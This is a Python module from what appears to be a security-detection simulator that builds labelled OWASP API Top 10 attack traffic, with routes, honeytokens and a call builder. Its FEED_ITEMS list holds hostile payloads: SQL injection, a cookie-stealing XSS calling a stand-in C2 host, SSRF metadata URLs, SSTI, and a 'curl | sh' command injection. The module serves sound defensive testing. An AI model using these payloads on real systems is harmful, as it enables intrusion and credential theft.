"""What the OWASP API Top 10 variants call and plant: their routes, honeytokens, third-party answers, and a call builder.

Static data plus the small toolkit the generators in ``owasp_flows`` and
``owasp_objects`` share. Contract:

* ``OWASP_BY_KEY``: the routes only these variants call (``namespace/service
  METHOD /template`` -> ``Endpoint``), kept out of ``catalog.ENDPOINTS`` so the
  benign mix and the older attackers draw from the same catalog as before.
  ``retired`` marks the zombies; ``SHADOW_KEYS`` and ``DEBUG_KEYS`` name the
  routes the demo API serves without declaring them in any spec.
* ``HONEYTOKENS``: the credentials and object ids planted in the demo API's
  data, in the shape ``ingest.honeytokens`` reads; ``deploy/runtime/honeytokens.yaml``
  is this mapping written out (a test keeps the two equal).
* ``FEED_ITEMS``: what the simulated third-party hosts answer for item ``n``
  (``kind``, ``value``); the demo API serves them, a variant knows which it asked for.
* ``OwaspCall``: a ``SimCall`` that also carries its own request body and
  extra headers (the traffic driver sends them as they are); ``Caller`` and
  ``Attacker`` build labelled calls.

Pure: every draw comes from the rng a variant is given.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from functools import lru_cache
from operator import attrgetter
from typing import Any, Protocol, TypeVar
from urllib.parse import quote

from ingest.simulator.call import SimCall
from ingest.simulator.catalog import BY_KEY, Endpoint, qualified
from ingest.simulator.world import World

__all__ = [
    "CATEGORIES",
    "DEBUG_KEYS",
    "FEED_ITEMS",
    "HONEYTOKENS",
    "LEAK_FLAGS",
    "OWASP_BY_KEY",
    "OWASP_ENDPOINTS",
    "PER_VARIANT",
    "PRODUCT_COUNT",
    "PRODUCT_FIRST",
    "SHADOW_KEYS",
    "Attacker",
    "Caller",
    "OwaspCall",
    "RunLike",
    "attackers",
    "big_body",
    "browse",
    "encode",
    "endpoint",
    "honeytokens_yaml",
    "json_body",
    "pick",
    "raw_of",
    "window",
]


T = TypeVar("T")
PER_VARIANT = 2  # attackers per variant and run, each with its own parameters


def _ep(q: str, method: str, template: str, kind: str | None = None, size: int = 800, lat: float = 15.0,
        retired: bool = False, ok: int = 200, req: int = 0) -> Endpoint:
    namespace, _, name = q.rpartition("/")
    return Endpoint(name, namespace or None, method, template, kind, size, lat, 1, retired, ok, req)


OWASP_ENDPOINTS: tuple[Endpoint, ...] = (
    _ep("shop/catalog", "GET", "/products/{id}", "product", 1200, 10),  # API6 scraping: product details
    _ep("shop/orders", "POST", "/reservations", "reservation", 300, 30, ok=201, req=300),  # API6 bulk purchase
    _ep("identity/accounts", "POST", "/accounts", "account", 500, 60, ok=201, req=500),  # API3 signup
    _ep("shop/notifications", "POST", "/webhooks", None, 200, 20, ok=201, req=400),  # API7: callback URL
    _ep("data/documents", "POST", "/documents/import", "document", 400, 200, ok=201, req=300),  # API7: fetch by URL
    _ep("shop/catalog", "GET", "/images/proxy", None, 9000, 80),  # API7: ?url=
    _ep("identity/profiles", "GET", "/profiles/{id}/full", "profile", 1800, 12),  # API9 shadow
    _ep("shop/orders", "POST", "/orders/{id}/refund", "order", 300, 40, req=200),  # API9 shadow
    _ep("payments/checkout", "POST", "/checkout/express", None, 1500, 150, req=900),  # API9 shadow
    _ep("shop/orders", "GET", "/v1/orders/{id}", "order", 1800, 20, retired=True),  # API9 zombie
    _ep("payments/payment-methods", "GET", "/v1/payment-methods/{id}", "payment_method", 600, 10, retired=True),
    _ep("shop/catalog", "GET", "/actuator/env", None, 6000, 4),  # API8 debug, undocumented
    _ep("ml/recommender", "GET", "/debug/pprof/heap", None, 90000, 40),
    _ep("data/warehouse", "GET", "/server-status", None, 3000, 3),
    _ep("identity/profiles", "GET", "/swagger.json", None, 20000, 5),
    _ep("api.partner-feed.example.com", "GET", "/v2/feed", None, 2500, 120),  # API10 third parties
    _ep("api.geo.example.com", "GET", "/v1/geocode", None, 900, 60),
)
OWASP_BY_KEY: dict[str, Endpoint] = {f"{qualified(e)} {e.method} {e.template}": e for e in OWASP_ENDPOINTS}
SHADOW_KEYS = ("identity/profiles GET /profiles/{id}/full", "shop/orders POST /orders/{id}/refund",
               "payments/checkout POST /checkout/express")
DEBUG_KEYS = ("shop/catalog GET /actuator/env", "ml/recommender GET /debug/pprof/heap",
              "data/warehouse GET /server-status", "identity/profiles GET /swagger.json")

# product ids of the catalog (the demo API holds them); below every id the simulated world allocates
PRODUCT_FIRST, PRODUCT_COUNT = 10001, 2400

HONEYTOKENS: dict[str, list[dict[str, str]]] = {
    "credentials": [
        {"kind": "api_key", "value": "kw_live_hny_7Q2mX9vR4tL8pZ3c", "account": "svc-legacy-export"},
        {"kind": "password", "value": "Spring-Backup-2031!", "account": "ops-backup-admin"},
    ],
    # eight digits: the world's ids have six or seven, the demo API's created ids start at 9,000,001
    "object_ids": [
        {"service": "payments/invoices", "id": "52093318"},
        {"service": "data/documents", "id": "73015542"},
        {"service": "shop/orders", "id": "41870233"},
    ],
}

# query flag the demo API honours on object routes -> the properties it then leaks (the API3 bug)
LEAK_FLAGS: dict[str, tuple[str, ...]] = {
    "expand=credentials": ("password_hash", "api_token"),
    "view=full": ("ssn", "password_hash", "mfa_secret"),
    "fields=all": ("password_hash", "api_token", "ssn", "reset_token"),
    "include=internal": ("api_token", "reset_token"),
}

# what a third-party host answers for ?item=n: (kind, value); the demo API serves FEED_ITEMS[n % len]
FEED_ITEMS: tuple[tuple[str, str], ...] = (
    ("clean", "Trail running shoes, size 42"),
    ("sqli", "x' UNION SELECT username, password_hash FROM accounts--"),
    ("clean", "Ultralight two-person tent"),
    ("xss", "<script>fetch('https://c2.example.org/?c='+document.cookie)</script>"),
    ("redirect", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("clean", "Burr coffee grinder"),
    ("ssti", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("cmdi", "gift; curl -s http://198.51.100.23/x.sh | sh"),
    ("redirect", "http://secrets-broker.identity.svc.cluster.local/secrets/db-password"),
    ("sqli", "1; DROP TABLE ledger_entries;--"),
    ("clean", "Merino wool socks, 3 pairs"),
    ("redirect", "http://ledger-admin.payments.svc.cluster.local/admin/balances"),
)


def honeytokens_yaml() -> str:
    """``HONEYTOKENS`` as the YAML text of ``deploy/runtime/honeytokens.yaml``."""
    lines = ["# Honeytokens planted in the demo API's data (ingest/simulator/owasp_catalog.py HONEYTOKENS;",
             "# a test keeps this file equal to it). No legitimate caller ever uses them.", "credentials:"]
    lines += [f"  - {{kind: {c['kind']}, value: {json.dumps(c['value'])}, account: {c['account']}}}"
              for c in HONEYTOKENS["credentials"]]
    lines.append("object_ids:")
    lines += [f"  - {{service: {o['service']}, id: {json.dumps(o['id'])}}}" for o in HONEYTOKENS["object_ids"]]
    return "\n".join(lines) + "\n"


def encode(value: str) -> str:
    """A query value percent-encoded (the way a client library sends it)."""
    return quote(value, safe="")


def json_body(data: dict[str, Any]) -> bytes:
    """A compact JSON request body."""
    return json.dumps(data, separators=(",", ":")).encode()


@lru_cache(maxsize=8)
def big_body(size: int) -> bytes:
    """A JSON body of about ``size`` bytes with a long array (costly to parse); shared, so huge bodies cost memory once."""
    n = max(1, (size - 40) // 12)
    return json_body({"title": "bulk import", "tags": [f"t-{i:07d}" for i in range(n)]})


class RunLike(Protocol):
    """What a generator reads of ``ingest.simulator.variants.VariantRun``."""

    @property
    def world(self) -> World: ...
    @property
    def seed(self) -> int: ...
    @property
    def rng(self) -> random.Random: ...
    @property
    def t0(self) -> float: ...
    @property
    def t1(self) -> float: ...
    @property
    def warmup_s(self) -> float: ...
    def compromise(self, workload: str, attack_id: str, since: float) -> None:
        """Mark ``workload`` compromised from ``since`` (its ordinary calls then carry ``attack_id``)."""


@dataclass(slots=True)
class OwaspCall(SimCall):
    """A ``SimCall`` with its own request body and extra request headers, sent by the driver as they are."""

    body: bytes | None = None
    headers: tuple[tuple[str, str], ...] = ()


@dataclass(frozen=True, slots=True)
class Caller:
    """Who sends the calls: a user through the gateway, an internet client, or an in-cluster workload."""

    workload: str | None
    ip: str
    principal: str | None
    auth: str

    @staticmethod
    def user(world: World, rng: random.Random) -> Caller:
        """An attacker's own user account (``user-9xxxx``) calling through ``shop/frontend``."""
        ips = world.ips["shop/frontend"]
        return Caller("shop/frontend", ips[rng.randrange(len(ips))], f"user-9{rng.randrange(10000):04d}", "jwt")

    @staticmethod
    def internet(rng: random.Random) -> Caller:
        """An anonymous client on the internet (TEST-NET-2 addresses)."""
        return Caller(None, f"198.51.100.{rng.randrange(2, 250)}", None, "none")

    @staticmethod
    def workload_of(world: World, workload: str) -> Caller:
        """An in-cluster workload calling with its mTLS identity, no principal."""
        return Caller(workload, world.ips[workload][0], None, "mtls")


@dataclass
class Attacker:
    """One labelled attacker of a variant: its caller, window, rng and ground truth (``name``-``k``)."""

    name: str
    k: int
    caller: Caller
    world: World
    rng: random.Random
    start: float
    end: float

    @property
    def attack_id(self) -> str:
        """``<variant name>-<k>``."""
        return f"{self.name}-{self.k}"

    def ids(self, kind: str) -> list[str]:
        """The world's ids of a kind (its pool as it stands; drawn from with the attacker's rng, never the world's)."""
        return self.world.pool[kind]

    def ticks(self, rate: float) -> Iterator[float]:
        """Poisson arrival times at ``rate`` calls/s inside the window."""
        t = self.start
        while True:
            t += self.rng.expovariate(rate)
            if t >= self.end:
                return
            yield t

    def call(self, t: float, ep: Endpoint, raw: str, ids: tuple[str, ...] = (), body: bytes | None = None,
             headers: tuple[tuple[str, str], ...] = (), malicious: bool = True, caller: Caller | None = None,
             status: int | None = None) -> OwaspCall:
        """One labelled call to ``ep`` at ``raw`` (server-model fields are a rough guess no detector reads)."""
        c = caller or self.caller
        ms = ep.latency_ms * (0.5 + self.rng.expovariate(1.5))
        req = len(body) if body is not None else ep.request_bytes
        return OwaspCall(t, c.workload, c.workload.partition("/")[0] if c.workload else None, c.ip, c.workload is None,
                         c.principal, c.auth, ep.service, ep.namespace, ep.namespace is None, ep.method, raw,
                         ep.template, req, status or ep.ok_status, ep.response_bytes, {}, list(ids), ms,
                         self.name, self.attack_id, malicious, body, headers)


def pick(rng: random.Random, pool: Sequence[T]) -> T:
    """One element of a non-empty pool (the variant's rng, never the world's)."""
    return pool[int(rng.random() * len(pool))]


def window(rng: random.Random, t0: float, t1: float, warmup_s: float, shortest: float, longest: float) -> tuple[float, float]:
    """An attack window: starts after the warm-up, lasts a drawn ``[shortest, longest]`` seconds, clipped to the run.

    The start is uniform in ``[t0 + warmup_s, t1 - tail]`` with ``tail = max(10,
    min(30, run / 4))`` (as ``plan_attacks``), or at the warm-up's end when the
    run is too short for that.
    """
    tail = max(10.0, min(30.0, 0.25 * (t1 - t0)))
    first = t0 + min(warmup_s, max(0.0, t1 - t0 - tail))
    start = rng.uniform(first, max(first, t1 - tail))
    return start, min(t1, start + rng.uniform(shortest, longest))


def attackers(run: RunLike, name: str, caller: Callable[[World, random.Random], Caller], shortest: float,
              longest: float, generate: Callable[[Attacker], list[OwaspCall]]) -> list[SimCall]:
    """The calls of ``PER_VARIANT`` attackers of a variant in time order, each cut at the end of its window.

    Each attacker has its own rng (drawn from the run's), its own caller
    (``caller(world, rng)``) and its own window of ``[shortest, longest]`` seconds;
    ``generate(attacker)`` makes its calls.
    """
    calls: list[SimCall] = []
    for a in _attackers(run, name, caller, shortest, longest):
        own = [c for c in generate(a) if c.time < a.end]
        first = min((c.time for c in own if c.malicious), default=None)
        if a.caller.principal is None and a.caller.workload is not None and first is not None:
            run.compromise(a.caller.workload, a.attack_id, first)
        calls += own
    return sorted(calls, key=attrgetter("time"))


def _attackers(run: RunLike, name: str, caller: Callable[[World, random.Random], Caller], shortest: float,
               longest: float) -> list[Attacker]:
    out: list[Attacker] = []
    for k in range(1, PER_VARIANT + 1):
        rng = random.Random(run.rng.getrandbits(64))
        start, end = window(rng, run.t0, run.t1, run.warmup_s, shortest, longest)
        who = caller(run.world, rng)
        for _ in range(20):  # each attacker its own actor: a workload, principal or address not taken yet
            if all(_identity(who) != _identity(b.caller) for b in out):
                break
            who = caller(run.world, rng)
        out.append(Attacker(name, k, who, run.world, rng, start, end))
    return out


def _identity(c: Caller) -> str:
    return c.principal or (c.workload if c.workload and c.workload != "shop/frontend" else c.ip)


CATEGORIES = ("shoes", "tents", "coffee", "socks", "jackets", "lamps", "bags", "stoves")


def browse(a: Attacker, t: float) -> OwaspCall:
    """An ordinary catalog read by the attacker's caller, labelled ``malicious=False`` (its cover traffic)."""
    ep = BY_KEY["shop/catalog GET /products"]
    return a.call(t, ep, f"/products?category={pick(a.rng, list(CATEGORIES))}", malicious=False)


def endpoint(key: str) -> Endpoint:
    """A route by ``namespace/service METHOD /template``, from the shop's catalog or the OWASP routes."""
    found = BY_KEY.get(key) or OWASP_BY_KEY.get(key)
    if found is None:
        raise KeyError(f"endpoint key={key!r} is in neither catalog.BY_KEY nor OWASP_BY_KEY")
    return found


def raw_of(ep: Endpoint, oid: str, query: str = "") -> str:
    """The raw path of ``ep`` for object ``oid`` (its template's ``{...}`` replaced), plus ``?query``."""
    path = ep.prefix + oid + ep.suffix if "{" in ep.template else ep.template
    return f"{path}?{query}" if query else path
